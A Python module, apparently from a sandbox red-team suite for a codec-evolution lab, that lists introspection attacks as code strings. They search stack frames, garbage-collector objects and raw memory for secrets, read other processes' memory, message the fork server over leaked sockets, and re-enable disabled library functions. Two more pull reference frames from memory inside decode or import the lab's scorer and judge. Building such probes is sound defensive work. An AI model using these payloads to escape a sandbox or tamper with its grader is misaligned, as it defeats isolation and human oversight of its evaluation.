"""Attacks by introspection: stack frames, the garbage collector, raw memory, the parent process."""

from functools import partial

from evocodec.sandbox.redteam.attack import Theme
from evocodec.sandbox.redteam.checks import ABSENT_FILE, DESCRIPTORS, ENVIRONMENT, FRESH, SECCOMP
from evocodec.sandbox.redteam.programs import attempt, smuggling

_attack = partial(attempt, Theme.INTROSPECTION)

ATTACKS = (
    _attack(
        "callers-frames",
        "find secrets or frames in the variables of its callers",
        """
        frame, found = sys._getframe(), []
        while frame is not None:
            found.append(f"{frame.f_code.co_name}: {sorted(frame.f_locals)}")
            found += [repr(value)[:300] for value in frame.f_locals.values()]
            shared = [one for one in frame.f_globals.values() if isinstance(one, dict)]
            found += [str(one.get(CANARY)) for one in shared]
            frame = frame.f_back
        return Loot("\\n".join(found).encode()[:200_000])
        """,
        layer=FRESH,
    ),
    _attack(
        "garbage-collector",
        "find secrets among all objects of the process",
        """
        import gc
        # The collector does not track dictionaries of plain strings, but the one that holds them.
        tracked = [one for one in gc.get_objects() if isinstance(one, dict)] + [vars(os.environ)]
        held = [value for one in tracked for value in one.values() if isinstance(value, dict)]
        found = [one.get(CANARY) or one.get(CANARY.encode()) for one in tracked + held]
        return Loot(repr([one for one in found if one]).encode())
        """,
        layer=ENVIRONMENT,
    ),
    _attack(
        "raw-memory",
        "find the controller's environment in raw memory, where the kernel put it at the start",
        """
        libc.getauxval.restype = ctypes.c_void_p
        top = libc.getauxval(31)
        stack = ctypes.string_at(top - 16000, 16000)
        return Loot(b" ".join(re.findall(CANARY.encode() + rb"=\\w+", stack)))
        """,
        layer=ENVIRONMENT,
    ),
    _attack(
        "interpreters-arguments",
        "learn from arguments, names or variables which clip or stage this is",
        """
        import threading
        about = [sys.argv, sys.orig_argv, dict(os.environ), os.getcwd(), threading.enumerate()]
        text = repr(about).lower()
        words = ("held", "screen", "smoke", "carphone", "akiyo", "api_key", "ray_address", "clip")
        hits = [word for word in words if word in text]
        return hits or Loot(text.encode())
        """,
        layer=ENVIRONMENT,
    ),
    _attack(
        "servers-memory",
        "read the memory of the fork server or of another process",
        """
        data = ctypes.create_string_buffer(64)
        pids = [pid for pid in (os.getppid(), @VICTIM@, @CONTROLLER@) if pid]
        local = (ctypes.c_size_t * 2)(ctypes.addressof(data), 64)
        remote = (ctypes.c_size_t * 2)(id(None), 64)
        def vm(pid): return reached((310, 270), pid, local, 1, remote, 1, 0)
        def file(pid): return f"opened {os.open(f'/proc/{pid}/mem', os.O_RDONLY)}"
        return first(*(lambda how=how, pid=pid: how(pid) for pid in pids for how in (vm, file)))
        """,
        layer=SECCOMP,
    ),
    _attack(
        "own-memory-file",
        "read its own memory map and pages from /proc",
        """
        names = ("maps", "mem", "pagemap", "smaps", "auxv", "stat")
        return each(lambda name: opened(f"/proc/self/{name}"), names)
        """,
        layer=SECCOMP,
    ),
    _attack(
        "servers-sockets",
        "talk to the fork server over a socket object left in memory",
        """
        import gc, socket
        sockets = [one for one in gc.get_objects() if isinstance(one, socket.socket)]
        report = b"X" + bytes(27)
        sends = [lambda one=one, data=data: f"sent {one.send(data)} bytes over {one.fileno()}"
                 for one in sockets for data in (b"K", report)]
        return first(*sends)
        """,
        layer=DESCRIPTORS,
    ),
    _attack(
        "restore-removed-functions",
        "get disabled functions back by loading the library afresh",
        """
        import cv2, importlib, importlib.machinery
        picture = np.zeros((8, 8), np.uint8)
        origin = next(m.__file__ for n, m in sys.modules.items() if n == "cv2")
        native = os.path.join(os.path.dirname(origin), "cv2.abi3.so")
        def use(function): return f"a picture of {len(function('.jpg', picture)[1])} bytes"
        def collected():
            import gc
            for one in gc.get_objects():
                if getattr(one, "__name__", "") == "imencode" and "built-in" in repr(one):
                    return use(one)
        def from_the_table():
            pointer = ctypes.c_void_p.from_address
            entry = pointer(id(cv2.resize) + 16).value
            make = ctypes.pythonapi.PyCFunction_NewEx
            make.restype, make.argtypes = ctypes.py_object, [ctypes.c_void_p] * 3
            step = -32
            while entry:
                name = pointer(entry).value
                if name is None: return None
                if ctypes.string_at(name) == b"imencode":
                    try:
                        return use(make(entry, None, None))
                    except TypeError as error:  # what its entry leads to now
                        raise PermissionError(str(error)) from None
                if ctypes.string_at(name) < b"imencode": step = 32
                entry += step
        def a_class():
            kinds = [one for one in object.__subclasses__() if one.__name__ == "VideoWriter"]
            fourcc = 0x47504A4D
            def write(kind):
                writer = kind(f"{SCRATCH}/{TOKEN}.avi", fourcc, 30.0, (64, 48))
                return f"a writer {writer.isOpened()}"
            return each(write, kinds)
        def from_the_copy():
            import _imp
            spec = importlib.machinery.ModuleSpec("cv2", None, origin=native)
            return use(_imp.create_dynamic(spec).imencode)
        def reloaded():
            for name in [name for name in sys.modules if name.split(".")[0] == "cv2"]:
                del sys.modules[name]
            sys.meta_path[:] = [one for one in sys.meta_path if "Unreadable" not in repr(one)]
            return use(importlib.import_module("cv2").imencode)
        return first(collected, a_class, from_the_table, from_the_copy, reloaded)
        """,
        layer=ABSENT_FILE,
    ),
    smuggling(
        Theme.INTROSPECTION,
        "reference-in-decoder",
        "find the reference frames from inside decode",
        """
        def hide(data): return None
        def find(stream):
            import gc
            size = stream.width * stream.height
            for one in gc.get_objects():
                if isinstance(one, np.ndarray) and one.size == size * stream.frame_count:
                    return one.tobytes()
                if isinstance(one, (bytes, bytearray)) and len(one) >= size * stream.frame_count:
                    return bytes(one)
        """,
        layer=FRESH,
    ),
    _attack(
        "code-of-the-laboratory",
        "import the laboratory's own scorer, settings, stores or judge",
        """
        import importlib
        names = ("evocodec.metrics.meter", "evocodec.config", "evocodec.store.sqlite.ledger",
                 "evocodec.sandbox.supervisor", "evocodec.execution.engine",
                 "evocodec.rules.adoption", "agents.judge", "ray")
        return each(lambda name: importlib.import_module(name).__file__, names)
        """,
        layer="absent module",
    ),
)
